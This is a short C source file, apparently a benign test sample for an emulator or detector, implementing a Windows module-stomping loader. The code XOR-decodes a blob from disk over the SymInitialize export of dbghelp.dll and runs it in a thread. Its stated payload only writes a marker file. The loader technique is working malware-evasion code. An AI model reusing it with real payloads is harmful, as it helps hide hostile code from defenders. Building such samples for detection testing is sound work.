/*
 * loader.c - generality suite: module stomping (benign, emulator-only; see
 * ../../lineage-common/common.h).
 *
 * Reads C:\ProgramData\ChainreplayDemo\blob.dat into a buffer on the heap, loads a system DLL
 * it never calls (LoadLibraryA("dbghelp.dll")), makes the code at one of its exports writable
 * (VirtualProtect PAGE_READWRITE), XOR-decodes the blob over that code, makes it PAGE_EXECUTE_READ
 * again and runs it in a thread: the stage runs from inside a module's image, where no
 * allocation of the sample's own holds it. The stage (../../lineage-common/payload.c) writes
 * C:\Users\Public\lineage_stomp.txt.
 * Exit codes: 0 ok, 1 no marker, 2 file, 3 module, 4 memory, 5 thread.
 */
#include "common.h"

void Entry(void)
{
    static struct sc_ctx ctx;
    static unsigned char blob[4096];
    volatile unsigned char *code;
    DWORD n = 0, i, old;
    HANDLE file, thread;
    HMODULE module;

    if (!marker_present())
        ExitProcess(1);
    file = CreateFileA("C:\\ProgramData\\ChainreplayDemo\\blob.dat", GENERIC_READ, FILE_SHARE_READ, 0, OPEN_EXISTING,
                       FILE_ATTRIBUTE_NORMAL, 0);
    if (file == INVALID_HANDLE_VALUE)
        ExitProcess(2);
    if (!ReadFile(file, blob, sizeof blob, &n, 0) || n == 0)
        ExitProcess(2);
    CloseHandle(file);
    module = LoadLibraryA("dbghelp.dll");
    code = module ? (volatile unsigned char *)GetProcAddress(module, "SymInitialize") : 0;
    if (!code)
        ExitProcess(3);
    if (!VirtualProtect((void *)code, n, PAGE_READWRITE, &old))
        ExitProcess(4);
    for (i = 0; i < n; i++)
        code[i] = blob[i] ^ 0x6b;
    if (!VirtualProtect((void *)code, n, PAGE_EXECUTE_READ, &old))
        ExitProcess(4);
    fill_ctx(&ctx, "C:\\Users\\Public\\lineage_stomp.txt", "stomped into a module\n");
    thread = CreateThread(0, 0, (LPTHREAD_START_ROUTINE)(void *)code, &ctx, 0, 0);
    if (!thread)
        ExitProcess(5);
    WaitForSingleObject(thread, INFINITE);
    ExitProcess(0);
}
